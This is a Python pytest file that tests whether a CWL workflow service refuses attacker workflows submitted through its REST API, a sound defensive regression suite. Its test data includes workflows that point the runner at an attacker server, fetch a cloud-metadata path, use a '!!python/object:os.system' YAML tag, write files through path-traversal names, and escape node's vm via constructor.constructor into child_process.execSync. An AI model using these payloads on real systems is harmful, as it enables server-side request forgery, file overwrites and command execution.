"""Issue 18, items 1 and 3, as an attacker with access to the REST API tries them.

Every probe names an attacker's server on loopback. Whatever the service
answers, the server must never be asked for anything, the attacker's "step"
(which would create a file) must never run, and the job must end in
PermanentFailure with a log line saying why, never in Success.
"""

import json

import pytest

from .attacker import attacker_server

REFUSED = 'Cannot run this job: '


@pytest.fixture
def attacker(tmp_path):
    with attacker_server(tmp_path) as server:
        yield server


def _refused(client, workflow, inputs=None):
    done = client.wait_final(client.submit(workflow, inputs, name='probe')['id'], 180)
    log = client.log(done['id'])
    assert done['state'] == 'PermanentFailure', log
    assert done['output'] == {}
    return log


def _workflow(head, steps='steps: {s: {run: test/hostname.cwl, in: {}, out: [output]}}'):
    return (
        'cwlVersion: v1.0\nclass: Workflow\n' + head + 'inputs: []\n'
        'outputs: {out: {type: File, outputSource: s/output}}\n' + steps + '\n'
    )


def test_the_probe_of_the_issue_is_refused_with_the_tag_named(client, attacker):
    """A !!binary hint once made the check raise, the check let the job
    through, and the runner fetched its step from the workflow's http id."""
    log = _refused(
        client,
        _workflow(
            f'id: {attacker.url}/evil/wf.cwl\nhints:\n- {{class: Foo, x: !!binary aGVsbG8=}}\n'
        ),
    )
    assert REFUSED in log and "'!!binary' at line 5, column 19" in log, log
    attacker.assert_untouched()


@pytest.mark.parametrize(
    'head, steps, says',
    [
        ('id: {url}/evil/wf.cwl\n', None, 'is an absolute URL or path'),
        ('id: /evil/wf.cwl\n', None, 'is an absolute URL or path'),
        (
            '',
            'steps:\n- {{id: "{url}/evil/s", run: test/hostname.cwl, in: [], out: [output]}}',
            'is an absolute URL or path',
        ),
        ('$base: {url}/evil/\n', None, "'$base'"),
        ('$schemas: [{url}/evil/schema.rdf]\n', None, "'$schemas'"),
        ('', 'steps: {{s: {{run: {url}/evil/tool.cwl, in: {{}}, out: [output]}}}}', 'not a URL'),
        (
            '$namespaces: {{evil: {url}/}}\n',
            'steps: {{s: {{run: "evil:tool.cwl", in: {{}}, out: [output]}}}}',
            'not a URL',
        ),
        ('requirements: [{{$import: {url}/evil/req.yml}}]\n', None, '$import'),
        # a prefix named like a scheme: every file:/// of the rewritten workflow
        # would then mean the attacker's URL (found by a red-team probe)
        ('$namespaces: {{file: "{url}/ns/"}}\n', None, "prefix 'file' may not be declared"),
        ('$namespaces: {{cwl: "{url}/ns/"}}\n', None, "prefix 'cwl' may not be declared"),
        ('$namespaces: {{edam: "file:///etc/"}}\n', None, 'must be an http(s) URL'),
        ('hints:\n- !!python/object:os.system x\n', None, "'!!python/object:os.system'"),
        ('hints:\n- !evil {{class: Foo}}\n', None, "'!evil'"),
    ],
    ids=[
        'http-id',
        'absolute-id',
        'list-step-id',
        'base',
        'schemas',
        'run-url',
        'run-prefixed',
        'import',
        'namespace-file',
        'namespace-cwl',
        'namespace-to-file',
        'python-tag',
        'custom-tag',
    ],
)
def test_no_base_id_or_reference_leads_the_runner_to_another_server(
    client, attacker, head, steps, says
):
    text = _workflow(head.format(url=attacker.url))
    if steps is not None:
        text = _workflow(head.format(url=attacker.url), steps.format(url=attacker.url))
    log = _refused(client, text)
    assert REFUSED in log and says in log, log
    attacker.assert_untouched()


def test_an_expression_cannot_make_the_runner_fetch_a_url(client, attacker):
    """Item 3: a File an expression returns may only be a file of the job."""
    workflow = f"""cwlVersion: v1.2
class: Workflow
requirements:
  InlineJavascriptRequirement: {{}}
  StepInputExpressionRequirement: {{}}
inputs: []
outputs: {{out: {{type: File, outputSource: s/output}}}}
steps:
  s:
    run: test/wc.cwl
    in:
      file:
        valueFrom: '$({{"class": "File", "location": "{attacker.url}/latest/meta-data"}})'
    out: [output]
"""
    done = client.wait_final(client.submit(workflow, name='probe')['id'], 180)
    log = client.log(done['id'])
    assert done['state'] != 'Success', log
    assert 'expressions may only name files of the job' in log, log
    attacker.assert_untouched()


WC_OF_FILE = """cwlVersion: v1.0
class: Workflow
inputs: {file: File}
outputs: {out: {type: File, outputSource: s/output}}
steps: {s: {run: test/wc.cwl, in: {file: file}, out: [output]}}
"""


@pytest.mark.parametrize('basename', ['ABS', '../../../../PWNED', 'a/../../PWNED', '..'])
@pytest.mark.parametrize('where', ['input', 'secondary', 'listing', 'default'])
def test_a_literal_file_is_never_written_outside_the_job(client, tmp_path, basename, where):
    """A red-team probe: a File given as `contents` with an absolute basename
    was written by the runner wherever it pointed (it overwrote an installed
    step, then ran it). Every way of giving such a File is refused."""
    target = tmp_path / 'PWNED'
    literal = {
        'class': 'File',
        'basename': str(target) if basename == 'ABS' else basename,
        'contents': 'pwned',
    }
    workflow, inputs = WC_OF_FILE, {}
    if where == 'input':
        inputs = {'file': literal}
    elif where == 'secondary':
        inputs = {'file': {'class': 'File', 'contents': 'x', 'secondaryFiles': [literal]}}
    elif where == 'listing':
        workflow = WC_OF_FILE.replace('{file: File}', '{file: File, d: Directory}')
        inputs = {
            'file': {'class': 'File', 'contents': 'x'},
            'd': {'class': 'Directory', 'basename': 'd', 'listing': [literal]},
        }
    else:
        workflow = WC_OF_FILE.replace(
            '{file: File}', '{file: {type: File, default: ' + json.dumps(literal) + '}}'
        )
    log = _refused(client, workflow, inputs)
    assert REFUSED in log and 'is not a plain file name' in log, log
    assert not target.exists() and not list(tmp_path.rglob('PWNED'))


JS_ESCAPE = """cwlVersion: v1.2
class: Workflow
requirements: {InlineJavascriptRequirement: {}, StepInputExpressionRequirement: {}}
inputs: {text: string}
outputs: {out: {type: File, outputSource: s/output}}
steps:
  s:
    run: test/echo.cwl
    in:
      text:
        source: text
        valueFrom: |
          ${ var p = globalThis.constructor.constructor('return process')();
             p.getBuiltinModule('child_process').execSync('touch MARK'); return 'ok'; }
    out: [output]
"""


@pytest.fixture
def configured_runner_service(tmp_path):
    """A service whose specialisation configures cwl-runner: plain cwltool,
    which evaluates JavaScript in node (no sandbox)."""
    import dataclasses
    import sys
    from pathlib import Path

    from cerise_actors.app import running_service
    from cerise_actors.config import service_config_from_dict

    from ..helpers import TEST_API_DIR, Client
    from ..service_setup import api_config_for_tests, service_config_dict

    root = tmp_path / 'svc'
    root.mkdir()
    api = api_config_for_tests(root)
    cwltool = Path(sys.executable).with_name('cwltool')
    api = dataclasses.replace(api, jobs=dataclasses.replace(api.jobs, cwl_runner=str(cwltool)))
    config = service_config_from_dict(service_config_dict(root), env={})
    with running_service(config, TEST_API_DIR, api_config=api) as service:
        service.client = Client(service.base_url, config.exchange_service_dir)
        yield service


@pytest.mark.parametrize('where', ['requirements', 'hints', 'step'])
def test_no_javascript_of_the_users_own_where_a_configured_runner_runs_it(
    configured_runner_service, tmp_path, where
):
    """A second red-team probe: cwltool's node `vm` is no sandbox, so with a
    configured cwl-runner an expression ran a command. There a workflow may
    hold parameter references, but no JavaScript of its own."""
    mark = tmp_path / 'MARK'
    workflow = JS_ESCAPE.replace('MARK', str(mark))
    if where == 'hints':
        workflow = workflow.replace('requirements: {Inline', 'hints: {Inline').replace(
            ', StepInputExpressionRequirement: {}}',
            '}\nrequirements: {StepInputExpressionRequirement: {}}',
        )
    elif where == 'step':
        workflow = workflow.replace(
            'requirements: {InlineJavascriptRequirement: {}, ', 'requirements: {'
        )
        workflow = workflow.replace(
            '    out: [output]',
            '    requirements: [{class: InlineJavascriptRequirement}]\n    out: [output]',
        )
    log = _refused(configured_runner_service.client, workflow, {'text': 'hi'})
    assert REFUSED in log and 'the workflow uses JavaScript' in log, log
    assert not mark.exists()


def test_parameter_references_still_run_under_a_configured_runner(configured_runner_service):
    workflow = (
        JS_ESCAPE.replace(
            'requirements: {InlineJavascriptRequirement: {}, ', 'requirements: {'
        ).split('        valueFrom:')[0]
        + '        valueFrom: say $(self)\n    out: [output]\n'
    )
    client = configured_runner_service.client
    done = client.wait_final(client.submit(workflow, {'text': 'hi'}, name='ref')['id'], 180)
    assert done['state'] == 'Success', client.log(done['id'])
    assert client.output_text(done, 'out') == 'say hi\n'
